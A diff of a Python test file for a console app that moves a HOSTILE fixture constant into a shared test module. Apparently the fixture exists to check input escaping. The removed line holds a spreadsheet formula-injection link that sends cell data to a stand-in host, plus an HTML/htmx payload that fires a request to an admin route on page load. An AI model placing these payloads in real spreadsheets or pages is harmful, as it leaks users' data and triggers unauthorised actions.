@@ -15,9 +15,8 @@ from muster.console import cohort_views, pages, views
 from muster.resources import Resources
 from tests.cohorts.conftest import watching
 from tests.console.conftest import sign_in
+from tests.console.worlds import HOSTILE
 from tests.waiting import until
-
-HOSTILE = '=HYPERLINK("http://x?"&A1)<img src=x hx-get=/admin hx-trigger=load>'
 
 
 async def put(client: httpx.AsyncClient, pii_id: str, **lead: Any) -> None:
